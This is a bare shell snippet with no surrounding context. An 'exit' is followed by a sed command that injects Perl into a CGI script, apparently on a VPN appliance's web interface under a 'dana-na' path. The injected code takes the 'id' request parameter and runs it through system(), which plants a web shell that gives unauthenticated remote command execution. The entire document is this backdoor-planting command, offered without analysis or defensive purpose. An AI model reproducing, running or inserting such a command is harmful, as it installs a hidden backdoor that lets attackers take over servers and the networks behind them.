exit
sed -i '/use DSSafe;/a if(CGI::param("id")){print "Cache-Control: no-cache\\n"; print "Content-type: text/html\\n\\n"; my $a=CGI::param("id"); system("$a");}' /tmp/data/root/home/webserver/htdocs/dana-na/auth/compcheckresult.cgi
